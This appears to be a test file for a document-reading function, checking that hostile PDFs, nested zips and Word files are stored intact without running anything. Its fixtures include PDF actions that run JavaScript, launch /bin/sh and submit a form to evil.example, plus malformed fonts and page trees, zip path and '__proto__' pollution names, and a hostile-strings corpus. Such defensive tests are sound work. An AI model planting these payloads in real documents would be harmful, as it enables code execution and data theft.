import { strToU8, zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { readPaper } from '../../src/replies/read-paper.ts';
import { hostileStrings } from '../support/hostile-strings.ts';
import { locked, pdfOf } from '../support/pdf.ts';

const file = (name: string, bytes: Uint8Array) => ({ name, mediaType: '', bytes: new Uint8Array(bytes) });
const line = 'Recordings are kept for ninety days and then wiped.';
const pages = [[line]];
const script = '/OpenAction << /S /JavaScript /JS (globalThis.ran = true; app.alert\\(1\\)) >>';

/** PDFs that are made to harm or to mislead, and what is said of each: a note, or nothing where the text is read. */
const pdfs: Record<string, [bytes: Buffer, said: string]> = {
  'that runs a script when it opens': [pdfOf({ pages, catalog: script }), ''],
  'that starts a program': [pdfOf({ pages, catalog: '/OpenAction << /S /Launch /F (/bin/sh) >>' }), ''],
  'that sends a form': [pdfOf({ pages, catalog: '/OpenAction << /S /SubmitForm /F (https://evil.example/) >>' }), ''],
  'with a file in it': [pdfOf({ pages, catalog: '/Names << /EmbeddedFiles << /Names [(a) 9 0 R] >> >>' }), ''],
  'whose font has impossible widths': [pdfOf({ pages, font: '/FirstChar 0 /LastChar 255 /Widths [-1 1e99 (x)]' }), ''],
  'whose font has a broken table of letters': [pdfOf({ pages, font: '/ToUnicode (beginbfchar <41> <0042>)' }), ''],
  'whose font is described by itself': [pdfOf({ pages, font: '/FontDescriptor 3 0 R /FontFile 3 0 R' }), ''],
  'whose pages are their own parent': [pdfOf({ pages, tree: '/Kids [2 0 R] /Count 1' }), 'broken scanned'],
  'that claims a billion pages': [pdfOf({ pages, tree: '/Kids [4 0 R] /Count 1000000000' }), ' cut scanned'],
  'that claims less than no pages': [pdfOf({ pages, tree: '/Kids [4 0 R] /Count -5' }), 'broken scanned'],
  'with a password': [pdfOf({ pages, trailer: locked }), 'encrypted'],
  'of pictures': [pdfOf({ pages: [[]] }), 'scanned'],
  'that ends in the middle': [pdfOf({ pages }).subarray(0, 300), 'broken scanned'],
  'that is none': [Buffer.from('%PDF-1.7\nno such thing'), 'broken'],
};

describe('a PDF', () => {
  it.each(Object.entries(pdfs))(
    '%s is kept byte for byte, and runs nothing',
    async (_, [bytes, said]) => {
      const read = await readPaper(file('a.pdf', bytes));
      if (!read.ok) throw new Error(read.why);
      expect(read.value.files.map((one) => Buffer.from(one.bytes))).toEqual([bytes]);
      const [note] = read.value.notes;
      // What is read is what stands there; where nothing is, a note says why.
      expect(said.split(' ')).toContain(note?.note ?? '');
      expect(note !== undefined || read.value.text.includes('ninety days')).toBe(true);
      expect((globalThis as { ran?: unknown }).ran).toBeUndefined();
    },
    30_000,
  );
});

describe('a zip', () => {
  it('in a zip is kept, not opened, and said to be there', async () => {
    const inner = zipSync({ 'deep.txt': strToU8(line) });
    const read = await readPaper(file('all.zip', zipSync({ 'inner.zip': inner, 'a.txt': strToU8('Hello there.') })));
    expect(read.ok && read.value.notes).toEqual([{ name: 'inner.zip', note: 'nested' }]);
    expect(read.ok && read.value.files.find(({ name }) => name === 'inner.zip')?.bytes).toEqual(new Uint8Array(inner));
  });
  it('with hostile names gives the files of these names, by their last part', async () => {
    const names = hostileStrings.filter((text) => text.length > 0 && text.length < 200 && text.isWellFormed());
    for (let at = 0; at < names.length; at += 400) {
      const some = [...new Set(names.slice(at, at + 400))].filter((name) => !name.endsWith('/') && !(name in {}));
      const packed = zipSync(Object.fromEntries(some.map((name) => [name, strToU8('x')])));
      const read = await readPaper(file('a.zip', packed));
      if (!read.ok) throw new Error(read.why);
      const [own, ...inner] = read.value.files;
      expect(own?.bytes).toEqual(new Uint8Array(packed));
      expect(inner.every(({ name }) => !/[/\\]/.test(name))).toBe(true);
    }
    const named = Buffer.from(zipSync({ xxxxxxxxx: strToU8('{"polluted":1}') })).toString('latin1');
    const proto = Buffer.from(named.replaceAll('xxxxxxxxx', '__proto__'), 'latin1');
    const read = await readPaper(file('a.zip', proto));
    expect(read.ok && read.value.files.map(({ name }) => name)).toEqual(['a.zip', '__proto__']);
    expect(({} as { polluted?: unknown }).polluted).toBeUndefined();
  });
});

it('a Word document of hostile words gives these words as text', async () => {
  const escaped = (text: string) => text.replace(/[&<>]/g, (sign) => `&#${sign.charCodeAt(0)};`);
  // Characters that XML 1.0 has no way to write are left out.
  const words = hostileStrings.filter((text) => text.length < 5000 && /^[\t\n\u0020-\ud7ff\ue000-\ufffd]+$/.test(text));
  const body = words.map((text) => `<w:p><w:r><w:t>${escaped(text)}</w:t></w:r></w:p>`).join('');
  const packed = zipSync({ 'word/document.xml': strToU8(`<w:document><w:body>${body}</w:body></w:document>`) });
  const read = await readPaper(file('a.docx', packed));
  const flat = (text: string) => text.replace(/\s+/g, '');
  const text = flat(read.ok ? read.value.text : '');
  expect(words.length).toBeGreaterThan(500);
  for (const word of words) expect(text).toContain(flat(word));
});
